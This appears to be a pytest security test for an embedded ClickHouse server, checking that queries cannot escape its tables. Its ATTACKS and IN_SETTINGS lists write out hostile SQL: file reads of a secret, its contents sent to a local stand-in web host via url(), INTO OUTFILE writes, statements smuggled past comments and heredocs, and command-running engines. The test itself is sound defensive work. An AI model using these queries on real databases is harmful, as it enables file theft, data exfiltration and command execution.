"""No query of the embedded ClickHouse reaches beyond the tables, whoever sends it."""

from __future__ import annotations

import json
import socketserver
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.clickhouse_support import Server, serving

SECRET = "kept-by-another"
DICTIONARY = "(a UInt64, b String) PRIMARY KEY a LAYOUT(FLAT()) LIFETIME(0) SOURCE"


@dataclass
class Prey:
    """The things that an attack is after; none of them may change or be told."""

    secret: Path
    out: Path
    web: str
    asked: list[bytes] = field(default_factory=list)
    """Requests that reached ``web``."""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with serving(tmp_path_factory.mktemp("door") / "data") as running:
        running.rows("CREATE TABLE t (s String) ENGINE = MergeTree ORDER BY s")
        yield running


@pytest.fixture(autouse=True)
def _empty(server: Server) -> Iterator[None]:
    yield
    server.rows("TRUNCATE TABLE t")


@pytest.fixture
def prey(tmp_path: Path) -> Iterator[Prey]:
    secret = tmp_path / "secret"
    secret.write_text(f"{SECRET}\n")
    asked: list[bytes] = []

    class Web(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            asked.append(self.request.recv(1_000))
            self.request.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Web) as web:
        threading.Thread(target=web.serve_forever, daemon=True).start()
        address = f"http://127.0.0.1:{web.server_address[1]}"
        yield Prey(secret, tmp_path / "out", address, asked)
        web.shutdown()


ATTACKS = {
    "a table function of files, written after WITH": (
        "WITH 1 AS x INSERT INTO FUNCTION file('{out}', 'CSV', 'x Int8') SELECT x"
    ),
    "a table function of files": "SELECT line FROM file('{secret}', 'LineAsString')",
    "a file sent away": (
        "WITH (SELECT any(line) FROM file('{secret}', 'LineAsString')) AS l "
        "SELECT * FROM url('{web}/' || l, 'LineAsString', 'x String')"
    ),
    "another server": "SELECT * FROM url('{web}/x', 'LineAsString', 'x String')",
    "written to another server": (
        "INSERT INTO FUNCTION url('{web}/x', 'CSV', 'x String') SELECT 'x'"
    ),
    "an object store": "SELECT * FROM s3('{web}/bucket/key.csv', 'CSV', 'x Int8')",
    "a scalar function of files": "SELECT file('{secret}')",
    "the same, its name in quotes": "SELECT `file`('{secret}')",
    "the same by its name alone": "SELECT arrayMap(file, ['{secret}'])",
    "the same applied to columns": "SELECT COLUMNS('p') APPLY file FROM (SELECT '{secret}' AS p)",
    "the same in a column's text": (
        "SELECT b FROM format(JSONEachRow, 'a String, b String DEFAULT file(\\'{secret}\\')',"
        ' \'{{"a": "1"}}\')'
    ),
    "the same in a setting": (
        "SELECT 1 SETTINGS additional_result_filter = 'throwIf(1, file(\\'{secret}\\')) = 0'"
    ),
    "the same of a query that wraps": (
        "SELECT 1 SETTINGS filter = 'throwIf(1, file(\\'{secret}\\')) = 0'"
    ),
    "the same told by an error": "SELECT throwIf(1, file('{secret}'))",
    "the same in a default": (
        "CREATE TABLE d1 (a Int8, b String DEFAULT file('{secret}')) ENGINE = Memory"
    ),
    "the same in a view": "CREATE VIEW d2 AS SELECT file('{secret}')",
    "the same written down": "INSERT INTO t SELECT file('{secret}')",
    "the same among values": "INSERT INTO t VALUES (assumeNotNull(file('{secret}')))",
    "a template": ("SELECT 1 FORMAT Template SETTINGS format_template_resultset = '{secret}'"),
    "a file of the server to insert": "INSERT INTO t FROM INFILE '{secret}' FORMAT LineAsString",
    "INTO OUTFILE": "SELECT 1 INTO OUTFILE '{out}'",
    "INTO OUTFILE behind a heredoc": "SELECT $$'$$ INTO OUTFILE '{out}' -- '",
    "INTO OUTFILE behind a nested comment": "SELECT 1 /* /* */ ' */ INTO OUTFILE '{out}' -- '",
    "INTO OUTFILE of an explanation": "EXPLAIN AST SELECT $$'$$ INTO OUTFILE '{out}' -- '",
    "INTO OUTFILE of a description": "DESCRIBE TABLE t /* /* */ ' */ INTO OUTFILE '{out}' -- '",
    "a second statement behind a heredoc": ("SELECT $$'$$; INSERT INTO t VALUES ('gone'); -- '"),
    "a table of a file": "CREATE TABLE d3 (x Int8) ENGINE = File(CSV, '{out}')",
    "a table in a folder": (
        "CREATE TABLE d4 (x Int8) ENGINE = EmbeddedRocksDB(0, '{out}') PRIMARY KEY x"
    ),
    "a table of another server": "CREATE TABLE d5 (x Int8) ENGINE = URL('{web}/x', 'CSV')",
    "a table of a command": "CREATE TABLE d6 (x Int8) ENGINE = Executable('x', 'TSV')",
    "a table on a disk elsewhere": (
        "CREATE TABLE d7 (x Int8) ENGINE = MergeTree ORDER BY x"
        " SETTINGS disk = disk(type = web, endpoint = '{web}/')"
    ),
    "a database of files": "CREATE DATABASE d8 ENGINE = Filesystem('/')",
    "a dictionary of a command": (
        f"CREATE DICTIONARY d9 {DICTIONARY}(EXECUTABLE(COMMAND 'touch {{out}}' FORMAT 'TSV'))"
    ),
    "a dictionary of another server": (
        f"CREATE DICTIONARY d10 {DICTIONARY}(HTTP(URL '{{web}}/x' FORMAT 'TSV'))"
    ),
    "a function": "CREATE FUNCTION d11 AS (x) -> x",
    "a variable of the process": "SELECT * FROM python(json)",
    "the process itself": "SYSTEM STOP MERGES",
}
IN_SETTINGS = {
    "filter": "throwIf(1, file('{secret}')) = 0",
    "additional_result_filter": "throwIf(1, file('{secret}')) = 0",
    "output_format": "Template",
    "format_template_resultset": "{secret}",
    "input_format_record_errors_file_path": "{out}",
    "dialect": "kusto",
}


@pytest.mark.parametrize("method", ["GET", "POST"])
@pytest.mark.parametrize("name", ATTACKS)
def test_no_query_reaches_beyond_the_tables(
    server: Server, prey: Prey, name: str, method: str
) -> None:
    sql = ATTACKS[name].format(secret=prey.secret, out=prey.out, web=prey.web)
    reply = server.ask(sql, method=method)
    if "DICTIONARY" in sql and reply.status == 200:
        server.ask(f"SELECT dictGet('{sql.split()[2]}', 'b', 1::UInt64)", method="GET")
    assert reply.status >= 400, reply
    assert SECRET.encode() not in reply.body
    assert server.rows("SELECT s FROM t") == []
    assert not prey.out.exists()
    assert prey.asked == []


@pytest.mark.parametrize("name", IN_SETTINGS)
def test_no_setting_holds_an_expression_a_path_or_a_format(
    server: Server, prey: Prey, name: str
) -> None:
    value = IN_SETTINGS[name].format(secret=prey.secret, out=prey.out)
    for reply in (
        server.ask("SELECT 1", method="GET", **{name: value}),
        server.ask(f"SELECT 1 SETTINGS {name} = {json.dumps(value)[1:-1]!r}"),
    ):
        assert reply.status >= 400
        assert SECRET.encode() not in reply.body
    assert not prey.out.exists()


def test_every_source_of_the_engine_is_withheld(server: Server) -> None:
    kept = {"numbers", "numbers_mt", "zeros", "zeros_mt", "generateSeries", "generate_series"}
    functions = set(server.rows("SELECT name FROM system.table_functions"))
    for name in sorted(functions - kept - {"merge", "view", "viewIfPermitted"}):
        reply = server.ask(f"SELECT * FROM {name}()", method="GET")
        assert b"Not run by the embedded server: the table function" in reply.body, name


def test_a_column_called_file_is_read_by_its_table(server: Server) -> None:
    server.rows("CREATE TABLE of_files (file String) ENGINE = Memory")
    server.rows("INSERT INTO of_files VALUES ('x')")
    assert server.ask("SELECT f.file FROM of_files AS f", method="GET").body == b"x\n"
    reply = server.ask("SELECT file FROM of_files", method="GET")
    assert b"a column of that name takes its table's before it: t.file" in reply.body


def test_get_reads_and_settings_of_its_url_hold(server: Server) -> None:
    reply = server.ask("SELECT getSetting('max_threads')", method="GET", max_threads="3")
    assert (reply.status, reply.body) == (200, b"3\n")
    assert server.ask("INSERT INTO t SELECT 'x'", method="GET", readonly="0").status >= 400
    assert server.ask("KILL QUERY WHERE 1", method="GET").status >= 400
    for sql in (
        *("SHOW TABLES", "DESCRIBE TABLE t", "EXISTS TABLE t", "SHOW CREATE TABLE `t`"),
        *("SELECT * FROM t FORMAT JSON", "EXPLAIN SELECT 1", "SHOW COLUMNS FROM t"),
    ):
        assert server.ask(sql, method="GET").status == 200, sql


QUERIES = [
    "WITH RECURSIVE r AS (SELECT 1 n UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT n FROM r",
    "SELECT quantiles(0.5, 0.9)(number), argMax(number, number) FROM numbers(10) GROUP BY ALL",
    "SELECT number, row_number() OVER (PARTITION BY number % 2 ORDER BY number) FROM numbers(3)",
    "SELECT a.number FROM numbers(3) AS a ANY LEFT JOIN numbers(2) AS b USING number",
    "SELECT number FROM numbers(5) WHERE number IN (SELECT 1) LIMIT 1 BY number",
    "SELECT 1 UNION ALL SELECT 2 INTERSECT SELECT 2",
    "SELECT arrayMap((x, y) -> x + y, [1], [2]), (1, 2).1, map('a', 1)['a'], '1'::Int8",
    "SELECT toStartOfInterval(now(), INTERVAL 5 minute) AS t, CASE 1 WHEN 1 THEN 2 END AS c",
    "SELECT * EXCEPT number APPLY sum, COLUMNS('num') FROM numbers(1)",
    "SELECT number FROM numbers(3) ORDER BY number WITH FILL FROM 0 TO 9 INTERPOLATE",
    "(SELECT 1 -- with a comment; and a $$\n) FORMAT JSON;",
    "EXPLAIN PIPELINE SELECT 1",
    "DESC system.one",
    "EXISTS VIEW `t`",
    "SELECT table_name FROM information_schema.tables WHERE table_schema = currentDatabase()",
]


@pytest.mark.parametrize("sql", QUERIES)
def test_what_only_reads_tables_is_answered(server: Server, sql: str) -> None:
    for reply in (server.ask(sql, method="GET"), server.ask("", sql.encode())):
        assert reply.status == 200, reply.body
